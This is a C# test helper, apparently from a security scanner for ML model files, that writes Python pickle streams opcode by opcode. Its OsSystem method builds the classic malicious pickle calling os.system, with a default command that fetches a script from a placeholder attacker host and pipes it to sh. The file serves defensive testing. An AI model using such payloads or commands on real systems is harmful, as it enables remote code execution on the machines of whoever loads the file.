using System.Buffers.Binary;
using System.Text;
using Bulwark.Ml.ModelFiles.Pickle;

namespace Bulwark.Ml.Tests.ModelFiles.Pickle;

/// <summary>Writes pickles opcode by opcode, so tests can build exactly the streams attackers would.</summary>
internal sealed class PickleWriter
{
    private readonly MemoryStream _bytes = new();

    public long Position => _bytes.Position;

    public PickleWriter Op(PickleOpcode opcode)
    {
        _bytes.WriteByte((byte)opcode);
        return this;
    }

    public PickleWriter Raw(params byte[] bytes)
    {
        _bytes.Write(bytes);
        return this;
    }

    public PickleWriter Text(string text) => Raw(Encoding.UTF8.GetBytes(text));

    public PickleWriter Proto(int protocol) => Op(PickleOpcode.Proto).Raw((byte)protocol);

    public PickleWriter Global(string module, string name) => Op(PickleOpcode.Global).Text($"{module}\n{name}\n");

    public PickleWriter StackGlobal(string module, string name) => Unicode(module).Unicode(name).Op(PickleOpcode.StackGlobal);

    public PickleWriter Unicode(string text)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        return bytes.Length < 256
            ? Op(PickleOpcode.ShortBinUnicode).Raw((byte)bytes.Length).Raw(bytes)
            : Op(PickleOpcode.BinUnicode).UInt32((uint)bytes.Length).Raw(bytes);
    }

    public PickleWriter Bytes(byte[] data) => Op(PickleOpcode.BinBytes).UInt32((uint)data.Length).Raw(data);

    public PickleWriter Int(int value) => value is >= 0 and < 256 ? Op(PickleOpcode.BinInt1).Raw((byte)value) : Op(PickleOpcode.BinInt).Int32(value);

    public PickleWriter BinPut(int key) => Op(PickleOpcode.BinPut).Raw((byte)key);

    public PickleWriter BinGet(int key) => Op(PickleOpcode.BinGet).Raw((byte)key);

    public PickleWriter Memoize() => Op(PickleOpcode.Memoize);

    public PickleWriter Mark() => Op(PickleOpcode.Mark);

    public PickleWriter Tuple1() => Op(PickleOpcode.Tuple1);

    public PickleWriter Tuple2() => Op(PickleOpcode.Tuple2);

    public PickleWriter Reduce() => Op(PickleOpcode.Reduce);

    public PickleWriter Build() => Op(PickleOpcode.Build);

    public PickleWriter Stop() => Op(PickleOpcode.Stop);

    /// <summary>module.name(argument) through REDUCE.</summary>
    public PickleWriter CallGlobal(string module, string name, string argument) => Global(module, name).Unicode(argument).Tuple1().Reduce();

    public PickleWriter UInt32(uint value)
    {
        Span<byte> buffer = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32LittleEndian(buffer, value);
        return Raw(buffer.ToArray());
    }

    public PickleWriter Int32(int value)
    {
        Span<byte> buffer = stackalloc byte[4];
        BinaryPrimitives.WriteInt32LittleEndian(buffer, value);
        return Raw(buffer.ToArray());
    }

    public PickleWriter UInt64(ulong value)
    {
        Span<byte> buffer = stackalloc byte[8];
        BinaryPrimitives.WriteUInt64LittleEndian(buffer, value);
        return Raw(buffer.ToArray());
    }

    public byte[] ToArray() => _bytes.ToArray();

    /// <summary>The classic payload: os.system(command) as protocol 2.</summary>
    public static byte[] OsSystem(string command = "curl http://evil.example/x | sh") =>
        new PickleWriter().Proto(2).CallGlobal("os", "system", command).Stop().ToArray();
}
